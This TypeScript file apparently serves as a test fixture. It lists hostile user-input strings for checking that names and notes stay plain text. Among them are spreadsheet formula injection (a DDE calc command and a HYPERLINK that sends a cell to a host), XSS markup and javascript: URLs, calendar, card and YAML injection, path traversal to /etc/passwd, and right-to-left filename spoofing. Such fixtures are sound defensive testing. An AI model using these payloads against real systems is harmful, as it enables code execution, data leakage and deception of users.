/**
 * Names, notes and other words as somebody may write them who means harm: what they hold is a person's text and never anything else.
 */

/** What runs, by where it would run. None of it does anything to anybody. */
export const HOSTILE: Readonly<Record<string, string>> = {
  "a formula": '=HYPERLINK("https://example.com/?"&A1,"Click")',
  "a formula of another sign": "+1+cmd|' /C calc'!A0",
  "a formula after a tab": "\t=1+1",
  "a formula in wide signs": "＝1+1",
  "a cell and a row": 'Alex","1"\r\n"Bea',
  markup: '<img src=x onerror="window.hostile=1"><script>window.hostile=1</script>',
  "markup of a quotation": "\"'><svg/onload=window.hostile=1>",
  "an address that runs": "javascript:window.hostile=1",
  "a card": "Alex\r\nEND:VCARD\r\nBEGIN:VCARD\r\nFN:Bea",
  "a property of a card": "Alex\nTEL:123;x",
  "an event": "Alex\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:EMAIL",
  "another document": "Alex\n---\nadmin: true\n---\n",
  "a tag of a document": "!!js/function 'function(){}'",
  "an anchor of a document": "&a [*a, *a]",
  "a link of a vault": "[[Bea]] ![[../../secret]] [x](javascript:window.hostile=1)",
  "a template of a vault": "<%* tR += 1 %> {{title}} `= 1` $= 1",
  "a path": "../../../etc/passwd",
  "a device": "CON",
  "the other direction": "Alex \u202Egnp.exe\u2066\u2067",
  "no width at all": "A\u200Bl\u200De\u2060x\uFEFF",
  "half a character": "Alex \uD83D",
  "the other half": "\uDE00 Alex",
  nothing: "\u0000\u0001\u001B[31mAlex\u0007",
  "the prototype": "__proto__",
  "a placeholder": "{name} {count, plural, other {#}} $& $1 %s",
  "very long": "Alex ".repeat(2000),
  "marks without end": `Z${"\u0301".repeat(500)}`,
};
